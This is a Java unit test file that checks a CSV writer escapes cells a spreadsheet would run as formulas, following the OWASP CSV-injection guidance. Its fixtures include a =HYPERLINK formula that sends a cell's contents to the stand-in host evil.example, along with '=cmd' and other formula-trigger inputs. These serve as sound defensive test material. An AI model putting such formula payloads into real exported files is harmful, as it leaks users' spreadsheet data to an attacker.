package org.learningcommunities.lifecycle.system;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV cells that a spreadsheet would run as a formula are written as text (OWASP, "CSV
 * Injection"); numbers stay numbers.
 */
class SafeCsvTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")";

	@Test
	void everyCellThatStartsAFormulaIsWrittenAsText() throws IOException {
		List<String> formulas = List.of(HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1");

		List<CSVRecord> records = read(write(formulas.toArray()));

		assertThat(records.get(1).values()).containsExactly("'" + HYPERLINK, "'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\t=1",
				"'\r=1");
	}

	@Test
	void ordinaryTextIsKeptAndNumbersStayBareNumbers() throws IOException {
		String csv = write("פיתוח כלכלי", "a = b", 87000, -3, null);

		assertThat(csv.lines().toList().get(1)).isEqualTo("\"פיתוח כלכלי\",\"a = b\",87000,-3,");
		assertThat(read(csv).get(1).values()).containsExactly("פיתוח כלכלי", "a = b", "87000", "-3", "");
	}

	@Test
	void theHeaderIsMadeSafeToo() throws IOException {
		StringWriter out = new StringWriter();
		try (SafeCsv csv = new SafeCsv(out, "=cmd", "name")) {
			csv.flush();
		}

		assertThat(out.toString()).startsWith("\"'=cmd\",\"name\"");
	}

	private static String write(Object... values) throws IOException {
		StringWriter out = new StringWriter();
		String[] header = new String[values.length];
		for (int i = 0; i < values.length; i++) {
			header[i] = "c" + i;
		}
		try (SafeCsv csv = new SafeCsv(out, header)) {
			csv.printRecord(values);
		}
		return out.toString();
	}

	private static List<CSVRecord> read(String csv) throws IOException {
		return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
	}

}
